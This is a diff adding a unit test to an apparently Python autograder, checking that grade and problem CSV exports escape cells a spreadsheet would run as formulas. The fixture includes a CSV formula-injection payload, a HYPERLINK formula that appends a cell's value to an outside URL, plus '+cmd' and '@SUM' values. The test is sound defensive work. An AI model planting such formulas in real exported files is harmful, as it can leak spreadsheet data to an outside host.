@@ -51,6 +51,22 @@ def test_grading_config_sets_the_dangerous_defaults(tmp_path):
     assert c.CourseDirectory.db_url == f"sqlite:///{tmp_path / 'gradebook.db'}"
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped(tmp_path):
+    from autograder.report import write_grades, write_problems
+    from autograder.submissions import Problem, Submission
+
+    evil = '=HYPERLINK("http://example.com/?"&A1,"click")'
+    subs = [Submission(evil, "toy", status="graded", score=1.0, max_score=2.0, remarks=["-1 point", "@SUM(A1)"]),
+            Submission("ada", "toy", status="graded", score=2.0, max_score=2.0)]
+    write_grades(tmp_path / "grades.csv", subs, ["toy"], {"toy": []})
+    write_problems(tmp_path / "problems.csv", [Problem(evil, "toy", "+cmd", "=1+1", "-do nothing")])
+    grades = read_csv(tmp_path / "grades.csv")
+    assert grades[0]["student"] == "'" + evil and grades[0]["remarks"] == "'-1 point; @SUM(A1)"
+    assert grades[1]["student"] == "ada" and grades[0]["score"] == "1"
+    (row,) = read_csv(tmp_path / "problems.csv")
+    assert all(value.startswith("'") for key, value in row.items() if key not in ("chapter", "graded"))
+
+
 def test_stderr_becomes_marked_stdout():
     cell = nbformat.v4.new_code_cell("f()")
     cell.outputs = [nbformat.v4.new_output("stream", name="stderr", text="x.py:1: UserWarning: careful\n  f()\n")]
